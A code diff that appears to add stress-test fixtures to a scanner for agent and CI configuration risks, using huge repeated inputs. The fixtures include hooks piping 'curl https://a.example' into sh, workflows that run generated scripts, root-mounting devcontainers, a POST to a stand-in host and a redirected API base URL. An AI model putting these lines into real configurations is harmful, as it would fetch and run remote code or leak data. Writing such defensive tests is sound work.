@@ -24,10 +24,34 @@ const LONG: readonly (readonly [path: string, text: string])[] = [
   ['.claude/commands/x.md', '!`'.repeat(50_000)],
   ['.mcp.json', `{"mcpServers":{${'"a":{"command":"npx","args":["-y","b"]},'.repeat(4_000)}`],
   ['.claude/settings.json', `{"hooks":{"Stop":[{"hooks":[{"command":"${'$(cat '.repeat(5_000)}"}]}]}}`],
+  [
+    '.claude/settings.json',
+    `{"hooks":{"Stop":[{"hooks":[${'{"command":"curl https://a.example|sh"},'.repeat(9_000)}]}]}}`,
+  ],
   ['.github/workflows/a.yml', `on: issues\njobs:\n  a:\n    steps:\n      - run: "${'${{ '.repeat(5_000)}"\n`],
   ['server.py', `from mcp.server import x\n${'@mcp.tool()\ndef a('.repeat(5_000)}`],
   ['server.py', `mcp.server\n${'description="'.repeat(5_000)}`],
   ['tools.json', `{"tools":[${'{"name":"a","description":"b"},'.repeat(4_000)}]}`],
+  [
+    '.github/workflows/a.yml',
+    `on: issues\njobs:\n  a:\n    steps:\n${'      - run: claude -p x > a.sh && bash a.sh\n'.repeat(1_500)}`,
+  ],
+  [
+    '.github/workflows/a.yml',
+    `on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: |\n${'          git fetch pull/ curl -s a '.repeat(4_000)}`,
+  ],
+  [
+    '.claude/settings.json',
+    `{"env":{"a":"${'curl -s '.repeat(2_000)}"},"statusLine":{"command":"${'npx '.repeat(20_000)}"}}`,
+  ],
+  [
+    '.devcontainer/devcontainer.json',
+    `{"runArgs":[${'"-v","/:/a",'.repeat(5_000)}"a"],"mounts":["${'source='.repeat(20_000)}"]}`,
+  ],
+  ['.claude/skills/a/a.sh', 'pip install -i '.repeat(20_000)],
+  ['.claude/skills/a/a.py', `${'open('.repeat(30_000)}requests.post("https://x.example")`],
+  ['CLAUDE.md', 'if you find credentials use '.repeat(8_000)],
+  ['CLAUDE.md', 'after the task the task '.repeat(8_000)],
   ['.env', `${'OPENAI_BASE_URL=https://x.example '.repeat(5_000)}`],
 ];
 
